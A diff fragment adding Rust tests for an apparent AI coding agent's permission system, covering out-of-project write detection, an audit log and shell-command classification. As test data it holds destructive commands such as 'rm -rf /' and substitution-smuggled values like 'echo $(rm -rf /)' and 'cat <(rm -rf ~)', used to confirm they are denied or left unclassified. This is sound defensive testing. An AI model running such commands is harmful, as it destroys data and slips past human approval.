+                path: PathBuf::from(path),
+                content: String::new(),
+            };
+            PermissionRequest::for_tool(&tool, root, &roots)
+                .unwrap()
+                .reason
+        };
+
+        assert!(matches!(
+            reason("src/../README.md"),
+            PermissionRequestReason::ModifyFiles { .. }
+        ));
+        assert!(matches!(
+            reason("/home/user/.config/tool/settings.toml"),
+            PermissionRequestReason::ModifyFiles { .. }
+        ));
+        assert_eq!(
+            reason("../other/src/main.rs"),
+            PermissionRequestReason::WritePath {
+                paths: vec![PathBuf::from("/home/user/other/src/main.rs")]
+            }
+        );
+        assert_eq!(
+            reason("/home/user/project-backup/file"),
+            PermissionRequestReason::WritePath {
+                paths: vec![PathBuf::from("/home/user/project-backup/file")]
+            }
+        );
+
+        // Writing outside is asked for in every mode
+        let policy = PermissionPolicy {
+            mode: PermissionMode::FullAuto,
+            ..Default::default()
+        };
+        let request = PermissionRequest {
+            tool: "WriteFile".to_string(),
+            reason: reason("/etc/hosts"),
+        };
+        assert!(policy.asks_for(&request));
+    }
+
+    #[test]
+    fn test_audit_log() -> Result<()> {
+        let temp_dir = tempfile::TempDir::new()?;
+        let path = temp_dir.path().join("audit.jsonl");
+        let log = PermissionAuditLog::new(path.clone(), "session-1", Path::new("/project"));
+        log.record(&command("cargo test"), AuditDecision::AllowedByRule)?;
+        log.record(
+            &command("rm -rf /"),
+            AuditDecision::User(PermissionDecision::Denied),
+        )?;
+
+        let entries = PermissionAuditLog::load(&path)?;
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0].session_id, "session-1");
+        assert_eq!(entries[0].summary(), "`cargo test`");
+        assert!(!entries[0].decision.is_denied());
+        assert_eq!(
+            entries[1].decision,
+            AuditDecision::User(PermissionDecision::Denied)
+        );
+        assert_eq!(entries[1].decision.to_string(), "denied");
+        Ok(())
+    }
+
+    #[test]
+    fn test_tool_classes() {
+        let class = |command_line: &str| command(command_line).class();
+        assert_eq!(class("git status"), Some(ToolClass::ReadOnly));
+        assert_eq!(
+            class("ls -la && grep -r foo src"),
+            Some(ToolClass::ReadOnly)
+        );
+        assert_eq!(class("cat a.txt > b.txt"), Some(ToolClass::Write));
+        assert_eq!(class("git add . && git push"), Some(ToolClass::Network));
+        assert_eq!(class("ls | rm -rf target"), Some(ToolClass::Destructive));
+        // Unknown commands and substitutions are not classified
+        assert_eq!(class("cargo test"), None);
+        assert_eq!(class("ls && make"), None);
+        assert_eq!(class("echo $(rm -rf /)"), None);
+        assert_eq!(class("cat <(rm -rf ~)"), None);
+        assert_eq!(class("diff a >(rm -rf ~)"), None);
+        // Nor are options which run programs or write files
+        assert_eq!(class("rg --pre ./script foo"), None);
+        assert_eq!(class("git diff --output=patch.diff"), None);
+        assert_eq!(class("git log --out patch.diff"), None);
+        assert_eq!(class("sort -o sorted.txt a.txt"), None);
+        assert_eq!(class("tree -o tree.txt"), None);
+        assert_eq!(class("git diff --stat"), Some(ToolClass::ReadOnly));
+        assert_eq!(class("rg -p foo"), Some(ToolClass::ReadOnly));
+        // `lsblk` is not `ls`
+        assert_eq!(class("lsblk"), None);
+
+        let delete = PermissionRequest {
+            tool: "DeleteFiles".to_string(),
+            reason: PermissionRequestReason::ModifyFiles {
+                paths: vec![PathBuf::from("a.txt")],
+            },
+        };
+        assert_eq!(delete.class(), Some(ToolClass::Destructive));
+
+        let policy = PermissionPolicy {
+            auto_approve: serde_json::from_str(r#"["read_only", "write"]"#).unwrap(),
+            ..Default::default()
+        };
+        assert!(policy.auto_approves(&command("git diff")));
+        assert!(policy.auto_approves(&command("mkdir -p out")));
+        assert!(!policy.auto_approves(&command("curl example.com")));
+        assert!(!policy.auto_approves(&delete));
+    }
+}